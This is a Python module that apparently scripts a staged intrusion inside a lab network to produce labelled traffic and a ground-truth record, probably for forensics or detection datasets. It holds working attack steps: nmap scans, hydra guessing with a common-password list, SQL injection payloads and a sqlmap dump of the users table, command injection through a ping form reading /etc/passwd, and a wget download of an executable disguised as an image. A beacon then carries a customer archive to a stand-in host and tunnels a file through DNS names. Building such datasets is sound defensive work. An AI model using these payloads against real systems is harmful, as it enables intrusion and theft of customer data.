"""The break-in: from the first scan to the files carried out. Everything stays between our own namespaces."""

from __future__ import annotations

import json
import random

from .clients import Clients
from .clock import iso, stamp
from .plan import COMPANY, HOSTS, TUNNEL_DOMAIN
from .programs.beacon import AGENT, CHUNK
from .servers import victim
from .truth import digests

SITE = f"http://www.{COMPANY}"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"
USERS = ("admin", "anna", "ben", "carla")
PASSWORDS = (
    "123456",
    "password",
    "admin",
    "qwerty",
    "letmein",
    "welcome1",
    "tidewater",
    "dragon",
    "Passw0rd",
    "summer2023",
    "summer2024",
    "iloveyou",
)
HOME = "http://cdn-metrics.test:8080"
ATTACK = "attack"


def scan(c: Clients, start: str) -> None:
    """Step 1: which ports are open, and what answers there."""
    web, mail = HOSTS["web"].ipv4, HOSTS["mail"].ipv4
    with c.clock.scene("scan", start, ATTACK):
        begin = c.clock.now()
        c.net.run(
            "attacker",
            [
                "nmap",
                "-n",
                "-Pn",
                "-sS",
                "-T4",
                "--max-retries",
                "1",
                "-p",
                "1-600,3306,5432,8000,8080,8443",
                web,
                mail,
            ],
            fake=False,
        )
        c.truth.step(
            1,
            "port scan",
            begin,
            source=HOSTS["attacker"].ipv4,
            targets=[web, mail],
            ports="1-600,3306,5432,8000,8080,8443",
            ports_per_target=605,
            open={web: [21, 22, 80], mail: [25]},
            program="nmap -sS",
        )
    with c.clock.scene("service probes", stamp(start) + 340, ATTACK, fresh=False):
        begin = c.clock.now()
        c.net.run(
            "attacker",
            [
                "nmap",
                "-n",
                "-Pn",
                "-sV",
                "--script",
                "http-title,http-headers,http-robots.txt,http-methods",
                "-p",
                "21,22,25,80",
                web,
                mail,
            ],
            fake=False,
        )
        c.truth.step(
            1,
            "service probes",
            begin,
            source=HOSTS["attacker"].ipv4,
            targets=[web, mail],
            ports="21,22,25,80",
            program="nmap -sV",
        )


def _word_list(c: Clients, name: str, words: tuple[str, ...]) -> str:
    path = c.work / name
    path.write_text("\n".join(words) + "\n")
    return str(path)


def guessing(c: Clients, start: str, ftp_start: str) -> None:
    """Step 2: passwords for the sign-in form, then for FTP."""
    web, me = HOSTS["web"].ipv4, HOSTS["attacker"].ipv4
    words = _word_list(c, "passwords", PASSWORDS)
    with c.clock.scene("guessing at the sign-in form", start, ATTACK):
        begin = c.clock.now()
        form = "/login:user=^USER^&password=^PASS^:Wrong name"
        out = c.net.run(
            "attacker",
            ["hydra", "-L", _word_list(c, "users", USERS), "-P", words, "-t", "4", "-I", web, "http-post-form", form],
            fake=False,
        )
        found = [line.split("login: ")[1] for line in out.splitlines() if "login: " in line]
        c.truth.step(
            2,
            "password guessing, HTTP form",
            begin,
            source=me,
            target=web,
            port=80,
            url="/login",
            user_agent="Mozilla/5.0 (Hydra)",
            program="hydra",
            users=list(USERS),
            passwords=len(PASSWORDS),
            attempts_at_most=len(USERS) * len(PASSWORDS),
            found=found,
        )
    with c.clock.scene("guessing at FTP", ftp_start, ATTACK):
        begin = c.clock.now()
        c.net.run("attacker", ["hydra", "-l", "webmaster", "-P", words, "-t", "3", "-I", f"ftp://{web}"], fake=False)
        c.net.run("attacker", ["hydra", "-l", "root", "-P", words, "-t", "3", "-I", f"ftp://{web}"], fake=False)
        c.truth.step(
            2,
            "password guessing, FTP",
            begin,
            source=me,
            target=web,
            port=21,
            program="hydra",
            users=["webmaster", "root"],
            passwords=len(PASSWORDS),
            attempts=2 * len(PASSWORDS),
            found=[],
        )


def injection(c: Clients, start: str, tool_start: str) -> None:
    """Step 3: SQL injection by hand, then with sqlmap. The table of users comes out."""
    web, me = HOSTS["web"].ipv4, HOSTS["attacker"].ipv4
    with c.clock.scene("SQL injection by hand", start, ATTACK):
        begin = c.clock.now()
        c.curl("attacker", f"{SITE}/", agent=BROWSER, label=ATTACK)
        c.think()
        c.curl("attacker", f"{SITE}/search?q=gauge%27", agent=BROWSER, label=ATTACK, note="the error gives it away")
        c.think()
        c.curl(
            "attacker",
            f"{SITE}/login",
            "--data-urlencode",
            "user=admin' or '1'='1' -- ",
            "--data-urlencode",
            "password=x",
            agent=BROWSER,
            label=ATTACK,
            method="POST",
            note="signed in without a password",
        )
        for payload in (
            "' order by 5-- ",
            "' union select 1,2,3,4-- ",
            "' union select 1,name,sql,4 from sqlite_master-- ",
            "' union select id,name,mail||':'||password,role from users-- ",
        ):
            c.think()
            body = c.curl(
                "attacker",
                f"{SITE}/search",
                "-G",
                "--data-urlencode",
                f"q={payload}",
                agent=BROWSER,
                label=ATTACK,
                note=payload,
            )
        leaked = body.count("@")
        c.truth.step(
            3,
            "SQL injection by hand",
            begin,
            source=me,
            target=web,
            port=80,
            url="/search?q=",
            user_agent=BROWSER,
            payload="' union select id,name,mail||':'||password,role from users-- ",
            users_leaked=leaked,
        )
    with c.clock.scene("SQL injection with sqlmap", tool_start, ATTACK):
        begin = c.clock.now()
        out = c.net.run(
            "attacker",
            [
                "sqlmap",
                "-u",
                f"{SITE}/search?q=gauge",
                "--batch",
                "--ignore-stdin",
                "--technique=BU",
                "--level=2",
                "--answers=crack=N",
                "--dbms=SQLite",
                "-T",
                "users",
                "--dump",
                "--flush-session",
                "--disable-coloring",
                f"--output-dir={c.work}/sqlmap",
            ],
            fake=False,
        )
        agent = f"sqlmap/{c.versions['sqlmap']}#stable (https://sqlmap.org)"
        c.truth.step(
            3,
            "SQL injection with sqlmap",
            begin,
            source=me,
            target=web,
            port=80,
            url="/search?q=",
            user_agent=agent,
            program="sqlmap",
            table="users",
            dumped="monsoon" in out or "priya.patel" in out,
        )


def commands(c: Clients, start: str, download: str) -> None:
    """Steps 4 and 5: commands through the ping form; a program is fetched under a false name and started."""
    web, me = HOSTS["web"].ipv4, HOSTS["attacker"].ipv4
    fetch = f"http://{me}/images"

    def tell(command: str) -> str:
        c.think()
        return c.curl(
            "attacker",
            f"{SITE}/tools",
            "-G",
            "--data-urlencode",
            f"host=127.0.0.1;{command}",
            agent=BROWSER,
            label=ATTACK,
            note=command,
        )

    with c.clock.scene("remote commands", start, ATTACK):
        begin = c.clock.now()
        done = ["id", "uname -snm", "cat /etc/passwd", "ls -la /srv/shop"]
        answers = [tell(command) for command in done]
        c.truth.step(
            4,
            "remote commands",
            begin,
            source=me,
            target=web,
            port=80,
            url="/tools?host=",
            user_agent=BROWSER,
            commands=done,
            answered="uid=33(www-data)" in answers[0],
        )
    with c.clock.scene("program downloaded", download, ATTACK):
        begin = c.clock.now()
        done = [
            f"wget -q -O /tmp/.upd {fetch}/logo.gif",
            "chmod +x /tmp/.upd; /tmp/.upd",
            f"wget -q -O /tmp/.upd.py {fetch}/header.jpg",
        ]
        answers = [tell(command) for command in done]
        for name, kind in (("logo.gif", "ELF executable"), ("header.jpg", "Python script")):
            c.truth.add(
                "http",
                client=web,
                server=me,
                dport=80,
                method="GET",
                url=f"{fetch}/{name}",
                status=200,
                user_agent=f"Wget/{c.versions['wget']}",
                label=ATTACK,
                note=kind,
            )
            c.truth.file(
                "http", "to_client", web, me, c.content / "attacker" / "images" / name, name, ATTACK, true_type=kind
            )
        program = digests((c.content / "attacker" / "images" / "logo.gif").read_bytes())
        c.truth.step(
            5,
            "program downloaded",
            begin,
            client=web,
            server=me,
            port=80,
            url=f"{fetch}/logo.gif",
            claimed_type="image/gif",
            true_type="ELF executable for Linux on x86-64, harmless",
            country="TR",
            commands=done,
            started="hello from the packetpig" in answers[1],
        )
        c.truth.data["break_in"][-1] |= program


def _call(c: Clients, when: float, number: int, scene: str, order: dict[str, str] | None = None) -> None:
    path = c.work / "c2" / "command"
    if order:
        path.write_text(json.dumps(order))
    with c.clock.scene(scene, when, ATTACK, fresh=number % 10 == 1, settle=0.25):
        begin = c.clock.now()
        c.net.run("web", victim(c.net, ["/usr/bin/python3", "/tmp/.upd.py", HOME, "web-33", str(number)]), fake=False)
        c.truth.data["beacon"]["calls"].append(
            {"n": number, "ts": round(begin, 6), "time": iso(begin), "told": (order or {"do": "wait"})["do"]}
        )
        if order:
            name = "files carried out" if order["do"] == "carry" else "file spelled in DNS names"
            c.truth.step(
                7, name, begin, client=HOSTS["web"].ipv4, server=HOSTS["c2" if order["do"] == "carry" else "dns"].ipv4
            )
    path.unlink(missing_ok=True)


def beacons(c: Clients, first: str, count: int, second: str, more: int) -> None:
    """Steps 6 and 7: the victim calls home; on the second night it carries files out and spells one in names."""
    web, home = HOSTS["web"].ipv4, HOSTS["c2"].ipv4
    rng = random.Random(60)
    c.truth.data["beacon"] = {
        "client": web,
        "server": home,
        "port": 8080,
        "name": "cdn-metrics.test",
        "url": f"{HOME}/api/v1/status",
        "user_agent": AGENT,
        "interval": 60,
        "jitter": 3,
        "label": ATTACK,
        "runs": [],
        "calls": [],
    }
    archive = c.content / "web" / "customers.tar.gz"
    parts = -(-archive.stat().st_size // CHUNK)
    number = 0
    for start, calls in ((first, count), (second, more)):
        night = stamp(start)
        for turn in range(calls):
            number += 1
            order: dict[str, str] | None = None
            if start == second and turn == 11:
                order = {"do": "carry", "path": "/srv/shop/customers.tar.gz"}
            if start == second and turn == 23:
                order = {"do": "names", "path": "/srv/shop/export.csv", "domain": TUNNEL_DOMAIN, "count": "60"}
            _call(c, night + turn * 60 + rng.uniform(-3, 3), number, "beacon", order)
            if order and order["do"] == "carry":
                c.truth.file(
                    "http", "to_server", web, home, archive, archive.name, ATTACK, parts=parts, part_size=CHUNK
                )
                c.truth.data["break_in"][-1] |= {
                    "port": 8080,
                    "url": f"{HOME}/upload",
                    "file": archive.name,
                    "parts": parts,
                    "part_size": CHUNK,
                    "user_agent": AGENT,
                    "sha256": digests(archive.read_bytes())["sha256"],
                    "size": archive.stat().st_size,
                }
            if order and order["do"] == "names":
                c.truth.data["break_in"][-1] |= {"port": 53, "domain": TUNNEL_DOMAIN, "type": "TXT", "names": 60}
        run = c.truth.data["beacon"]["calls"][-calls:]
        c.truth.data["beacon"]["runs"].append({"first": run[0]["time"], "last": run[-1]["time"], "count": calls})
        c.truth.data["break_in"].append(
            {
                "step": 6,
                "name": "beacon",
                "start": run[0]["time"],
                "end": run[-1]["time"],
                "start_ts": run[0]["ts"],
                "end_ts": run[-1]["ts"],
                "client": web,
                "server": home,
                "port": 8080,
                "calls": calls,
                "interval": 60,
                "jitter": 3,
                "user_agent": AGENT,
            }
        )


def play(c: Clients) -> None:
    """All of it."""
    scan(c, "2024-03-05T21:04:40")
    guessing(c, "2024-03-05T21:41:02", "2024-03-05T22:08:55")
    injection(c, "2024-03-06T01:12:33", "2024-03-06T01:21:07")
    commands(c, "2024-03-06T01:58:12", "2024-03-06T02:04:45")
    beacons(c, "2024-03-06T02:15:00", 120, "2024-03-07T02:20:00", 30)
    c.truth.data["break_in"].sort(key=lambda row: row["start_ts"])
    carried = (c.work / "c2" / "carried").read_bytes()
    if digests(carried) != digests((c.content / "web" / "customers.tar.gz").read_bytes()):
        raise RuntimeError("the archive did not arrive whole")
